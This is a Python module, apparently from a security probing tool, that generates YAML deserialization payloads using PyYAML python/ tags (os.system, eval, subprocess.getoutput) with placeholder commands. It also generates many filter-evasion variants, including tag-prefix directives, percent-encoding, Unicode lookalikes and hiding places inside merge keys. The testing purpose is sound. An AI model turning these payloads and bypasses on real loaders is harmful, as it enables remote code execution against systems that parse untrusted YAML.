"""YAML documents whose tags make a careless loader call functions or import modules (PyYAML's `python/…` tags).

The words PYTHON and CMD stand for code of a marker, HELPER for a module that sets it off when imported, LAZY for one that
is loaded already and sets it off when something is looked up in it (`Marker.lazy_module`). A document is
put together of what is called, how its tag is written, and where it stands. See the YAML 1.1 specification, "Tag
Shorthands", and PyYAML's `constructor.py`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping, Sequence

from probes.grammars import evasions
from probes.grammars.ranked import in_turn, ranked

#: Directives, and a tag; REST is what stands behind `tag:yaml.org,2002:python/`.
_WRITTEN = (
    ("!!python/REST",),
    ("!<tag:yaml.org,2002:python/REST>", "%TAG !p! tag:yaml.org,2002:python/ @@ !p!REST", "!!pyth%6fn/REST"),
    (
        "%TAG !! tag:yaml.org,2002:python/ @@ !!REST",
        "%TAG ! tag:yaml.org,2002:python/ @@ !REST",
        "%TAG !p! tag:yaml.org,2002:pyt @@ !p!hon/REST",
        "!!%70%79%74%68%6f%6e/REST",
        "!<tag:yaml.org,2002:pyth%6fn/REST>",
        "%YAML 1.1\n%TAG !e! tag:yaml.org,2002:python/ @@ !e!REST",
    ),
)
#: What is called, and with which node; behind the tag of what the last part of a prefix may be.
_CALLED = (
    ('object/apply:builtins.eval ["PYTHON"]', 'object/new:os.system ["CMD"]', "name:HELPER.x ''"),
    (
        'object/apply:os.system ["CMD"]',
        "module:HELPER ''",
        'object/new:builtins.eval ["PYTHON"]',
        'object/apply:subprocess.getoutput ["CMD"]',
        'object/apply:builtins.eval {args: ["PYTHON"]}',
        "object:HELPER.Bed {}",
        'object/new:subprocess.getoutput {args: ["CMD"]}',
        "object/apply:HELPER.run []",
        'object/new:tuple [!!python/object/new:map [!!python/name:eval , ["PYTHON"]]]',
        'object/new:type {args: ["z", !!python/tuple [], {"extend": !!python/name:exec }], listitems: "PYTHON"}',
    ),
)
#: Suffixes that lists of allowed tags hold: the prefix that a directive gives them makes another tag of each.
_HARMLESS = ("str", "int", "float", "seq", "map", "set", "null", "binary", "value", "bool")


def documents(plain: str, places: Sequence[str]) -> Iterator[str]:
    """Documents in which a hostile node, VALUE, stands at one of the places; `plain` is an ordinary document.

    A place is a document in which VALUE stands for a node.
    """
    tiers = (places[:2], places[2:])
    made = (_document(place, written, called) for written, called, place in ranked(_WRITTEN, _CALLED, tiers))
    others = in_turn(
        _by_prefixes(places),
        _whole(plain),
        _by_own_tags(places),
        (place.replace("VALUE", text) for place in places for text in ('"PYTHON"', '"BARE"')),
        (other for text in (_document(places[0], _WRITTEN[0][0], _CALLED[0][0]),) for other in evasions.evading(text)),
    )
    yield from in_turn(made, others)


def _document(place: str, written: str, called: str) -> str:
    directive, separator, tag = written.rpartition(" @@ ")
    rest, _, node = called.partition(" ")
    document = place.replace("VALUE", f"{tag.replace('REST', rest)} {node}")
    return f"{directive}\n---\n{document}" if separator else document


def _by_prefixes(places: Sequence[str]) -> Iterator[str]:
    prefixes = (
        "python/name:HELPER.",
        "python/object/apply:HELPER.",
        "python/object/new:HELPER.",
        "python/module:HELPER.",
        "python/object:HELPER.",
    )
    for prefix in prefixes:
        for handle in ("!!", "!", "!p!"):
            for suffix in _HARMLESS[:3] if handle == "!!" else _HARMLESS[:1]:
                node = "''" if "name" in prefix or "module" in prefix else "[]"
                yield f"%TAG {handle} tag:yaml.org,2002:{prefix}\n---\n" + places[0].replace(
                    "VALUE", f"{handle}{suffix} {node}"
                )
    yield "%TAG !! tag:yaml.org,2002:python/object/apply:os.\n---\n" + places[0].replace("VALUE", '!!system ["CMD"]')


def _by_own_tags(places: Sequence[str]) -> Iterator[str]:
    """Tags that the program itself reads, with what a constructor may make of their ends and nodes."""
    own = (word for word in evasions.words() if word.startswith(("!", "tag:")))
    tags = [word for word in own if not word.startswith(("!!", "tag:yaml.org,"))][:6]
    for tag in tags:
        written = f"!<{tag}END>" if tag.startswith("tag:") else f"{tag}END"
        for end, node in _FOR_OWN_TAGS:
            yield places[0].replace("VALUE", f"{written.replace('END', end)} {node}")


_FOR_OWN_TAGS = (
    ("", '"PYTHON"'),
    ("HELPER.run", "''"),
    ("HELPER.run", "[]"),
    ("HELPER.run", "{}"),
    ("builtins.eval", '["PYTHON"]'),
    ("os.system", '["CMD"]'),
    ("", '"HELPER.run"'),
    ("", '"HELPER:run"'),
    ("", '["builtins.eval", "PYTHON"]'),
    ("", '["eval", "PYTHON"]'),
    ("", "HELPER"),
)


def _whole(plain: str) -> Iterator[str]:
    for called in _CALLED[0]:
        yield f"!!python/{called}\n"
        yield f"{plain}\n---\n!!python/{called}\n"
        yield f"--- !!python/{called}\n---\n{plain}"


_OBJECTS = (
    "name:os.system ''",
    "tuple [a, b]",
    "complex 1+2j",
    "name:builtins.len ''",
    "module:os ''",
    "object:yaml.Loader {}",
)


#: Prefixes that a directive gives a handle, and suffixes that are harmless as they are written: what they make together is none.
_BY_PREFIX = (
    ("!!", "python/name:", ("float", "int", "str", "set", "bool")),
    ("!!", "python/name:builtins.", ("float", "int", "str", "map")),
    ("!", "python/name:", ("float", "str")),
    ("!!", "python/name:yaml.resolver.", ("re",)),
    ("!p!", "python/name:", ("float",)),
    ("!!", "python/", ("tuple", "complex")),
    ("!shot!", "python/", ("tuple", "complex")),
    ("!str!", "python/name:", ("str",)),
)


def objects(places: Sequence[str]) -> Iterator[str]:
    """Documents with tags that make an object of Python, though they run nothing, also by what a directive makes of a harmless tag."""
    written = (
        _document(place, way, node) for way in (*_WRITTEN[0], *_WRITTEN[1]) for node in _OBJECTS for place in places
    )
    yield from in_turn(written, _objects_by_prefix(places))


def _objects_by_prefix(places: Sequence[str]) -> Iterator[str]:
    for handle, prefix, suffixes in _BY_PREFIX:
        for suffix in suffixes:
            node = {"tuple": "[a, b]", "complex": "1+2j"}.get(suffix, "''")
            for place in places:
                yield f"%TAG {handle} tag:yaml.org,2002:{prefix}\n---\n" + place.replace("VALUE", f"{handle}{suffix} {node}")


def unseen(own: str, key: str = "mortar") -> Iterator[str]:
    """Lists with a tag for an object of Python at a node that a safe loader takes apart without a look at its tag.

    `own` is a tag of the program's for mappings. Loaders look at no tag of what is merged, of the pairs in `!!omap` and
    `!!pairs`, and of the text that stands for a mapping with the key `=`; careless readers by hand look at fewer still.
    """
    places = (
        f"- {own}\n  <<: TAG {{{key}: 1}}\n",
        f"- {own} {{<<: [{{{key}: 1}}, TAG {{at: 2}}]}}\n",
        f"- {own}\n  {key}: 1\n  <<: TAG {{}}\n",
        f"- {own} {{<<: {{<<: TAG {{{key}: 1}}}}}}\n",
        f"- &a {own} {{<<: TAG {{{key}: 1}}}}\n- {own} {{<<: *a}}\n",
        f"- {own} {{<<: TAG [{{{key}: 1}}]}}\n",
        f"- {own} {{{key}: !!omap [TAG {{a: 1}}]}}\n",
        f"- {own} {{{key}: !!pairs [TAG {{a: 1}}]}}\n",
        f"- {own} {{{key}: !!str {{=: TAG x}}}}\n",
        f"- {own} {{{key}: !!int {{=: TAG 1}}}}\n",
        "- !!str {=: TAG wait}\n",
        f"- {own} {{{key}: TAG 1, {key}: 2}}\n",
        f"- {own} {{{key}: 1, <<: {{{key}: TAG 2}}}}\n",
        f"- {own} {{{key}: !!set {{a: TAG x}}}}\n",
        f"- {own} {{TAG {key}: 1}}\n",
        "- TAG wait\n",
        "TAG\n- wait\n",
        "- wait\n--- TAG x\n",
        f"- {own} {{{key}: TAG [1, 2]}}\n",
        f"- {own} {{{key}: [TAG x]}}\n",
    )
    yield from in_turn(_unseen_as_written(places), _unseen_by_prefix(places))


def _unseen_by_prefix(places: Sequence[str]) -> Iterator[str]:
    """The tag is one of YAML's own as it is written, and a directive makes another one of it."""
    plain = [place for place in places if "!!" not in place]
    for number, place in enumerate(plain):
        for prefix in ("python/name:", "python/object/new:")[:: 1 if number % 2 else -1]:
            tag = "!!float" if number % 3 else "!!str"
            yield f"%TAG !! tag:yaml.org,2002:{prefix}\n---\n" + place.replace("TAG", tag)


def _unseen_as_written(places: Sequence[str]) -> Iterator[str]:
    named = ("object/apply:os.mkdir", "tuple", "name:os.getcwd", "object:yaml.Loader", "module:os", "complex", "object/new:str")
    for number, rest in enumerate(named):
        for at, place in enumerate(places):
            (written,) = [one for tier in _WRITTEN[: 1 + (number > 0)] for one in tier][(at + number) % (1 + 3 * (number > 0)) :][:1]
            directive, separator, tag = written.rpartition(" @@ ")
            document = place.replace("TAG", tag.replace("REST", rest))
            yield f"{directive}\n---\n{document}" if separator else document


def strangers(documents: Mapping[str, str]) -> Iterator[str]:
    """Documents with a tag that is none of YAML's own, on a node that would be an ordinary one without it.

    Each document has TAG in front of a node of the kind that its key says: str, int, list or dict.
    """
    for kind, document in documents.items():
        for tag in ("!x", f"!!python/{kind}", "!!x", "!<tag:example.org,2024:x>", f"!{kind}", "!python/object:x.Y"):
            yield document.replace("TAG", tag)


def lookups(plain: str, places: Sequence[str]) -> Iterator[str]:
    """Documents in which a tag names something in a module that is loaded already: a full loader looks it up as well.

    The tag stands at each place, and where a filter of the program's own loses sight of it.
    """
    hidden = [f"{place}{plain}" for place in _HIDDEN]
    yield from in_turn(
        (place.replace("VALUE", f"{tag} ''") for tag in _LOOKED_UP[:1] for place in places),
        (place.replace("VALUE", f"{_LOOKED_UP[0]} ''") for place in hidden),
        (f"note: {tag} ''\n{plain}" for tag in _LOOKED_UP[1:]),
        (f"{head}note: {_LOOKED_UP[0]} ''\n{plain}" for head in _heads()),
    )


_LOOKED_UP = (
    "!!python/name:LAZY.thing",
    "!<tag:yaml.org,2002:python/name:LAZY.thing>",
    # What a program that normalises, decodes or strips after its check makes a tag of.
    "\uff01\uff01python/name:LAZY.thing",
    "\ufe57\ufe57python/name:LAZY.thing",
    "!\u200b!python/name:LAZY.thing",
    "!!pyth\u00adon/name:LAZY.thing",
    "&#33;&#33;python/name:LAZY.thing",
    "%21%21python/name:LAZY.thing",
    "\\x21\\x21python/name:LAZY.thing",
)
#: Where what takes out quoted texts and comments, or reads line by line, takes out too much or stops too soon.
_HIDDEN = (
    "it's: 1\nnote: VALUE\nthat's: 1\n",
    "# x\u2028note: VALUE\n",
    "a#b: VALUE\n",
    'a"b: 1\nnote: VALUE\nc"d: 1\n',
    "'a # b': VALUE\n",
    "note:\n  VALUE\n",
    "note: [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[VALUE]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]\n",
    "# x\rnote: VALUE\n",
    'note: "\\""\nmore: VALUE\nlast: "x"\n',
    "note: |\n  it's\nmore: VALUE\nthat's: 1\n",
    "# x\x85note: VALUE\n",
    "note: # x\n  VALUE\n",
    f"# {'x' * 20_000}\nnote: VALUE\n",
    "note: 'it''s'\nmore: VALUE\nthat's: 1\n",
    "note: !!set {? VALUE}\n",
    "note: !!omap [a: VALUE]\n",
    "note: !!pairs [VALUE : 1]\n",
    "note: {a: &y {b: VALUE}, c: *y}\n",
    "note: >\n  # x\nmore: VALUE\n",
    "note:\t!!str VALUE\nmore: VALUE\n",
    "\ufeffnote: VALUE\n",
)


def _heads() -> Iterator[str]:
    """Beginnings that may tell the program's own format or version."""
    for word in [word for word in evasions.words() if re.fullmatch(r"[\w%#!. :-]+", word)][:12]:
        yield from (f"# {word}\n", f"{word}: 1\n")
